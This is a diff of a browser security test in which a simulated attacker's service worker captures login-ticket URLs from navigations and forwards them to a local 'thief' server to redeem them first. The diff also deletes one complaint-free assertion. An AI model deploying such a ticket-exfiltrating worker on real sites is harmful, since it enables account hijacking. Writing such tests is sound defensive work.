@@ -77,7 +77,7 @@ async function answer(req: IncomingMessage): Promise<{ type: string; body: strin
   const { host = "", cookie = "", "sec-fetch-site": site = "" } = req.headers;
   const url = new URL(req.url ?? "/", "http://bob");
   asked.push({ host, url: url.pathname, cookie, site: String(site) });
-  if (url.pathname === "/worker.js") return { type: "text/javascript", body: worker };
+  if (url.pathname === "/worker.js") return { type: "text/javascript", body: worker() };
   if (url.pathname === "/redeem") {
     const ticket = new URL(url.searchParams.get("url") ?? "");
     redeemed.push(await statusOf(ticket.pathname + ticket.search, { host: ticket.host, cookie }));
@@ -85,13 +85,16 @@ async function answer(req: IncomingMessage): Promise<{ type: string; body: strin
   return { type: "text/html", body: "<h1>bob</h1>" };
 }
 
-/** Hands each ticket to bob's server before the browser gets to use it. */
-const worker = `
+/** Hands each ticket to bob's server before the browser gets to use it, and everything else on as many workers do. */
+const worker = () => `
+const port = "http://localhost:${portOf(thief)}";
 addEventListener("install", () => skipWaiting());
 addEventListener("activate", (event) => event.waitUntil(clients.claim()));
 addEventListener("fetch", (event) => {
-  if (!event.request.url.includes("ticket=")) return;
-  event.respondWith(fetch("/redeem?url=" + encodeURIComponent(event.request.url)).then(() => fetch(event.request)));
+  const { url, mode } = event.request;
+  const redeem = () => fetch(port + "/redeem?url=" + encodeURIComponent(url), { mode: "no-cors" });
+  if (mode !== "navigate") return;
+  event.respondWith((url.includes("ticket=") ? redeem() : Promise.resolve()).then(() => fetch(event.request)));
 });
 `;
 
@@ -210,7 +213,6 @@ describe("the main origin's cookies", () => {
     await page.goto(server.loginUrl(ada.id).url);
     await expect.poll(() => page.getByRole("listitem").getByRole("link").allTextContents()).toEqual(["ada", "bob"]);
     await click("ada");
-    expect(person.complaints).toEqual([]);
   });
 });
 
@@ -220,6 +222,8 @@ describe("a ticket", () => {
     await page.evaluate(
       `navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready).then(() => 1)`,
     );
+    // Links from the list go on by way of the worker.
+    await click("bob");
     await forgetEntry(bob);
     await page.goto(`${own(bob)}/again`);
     await expect.poll(() => page.url()).toBe(`${own(bob)}/again`);
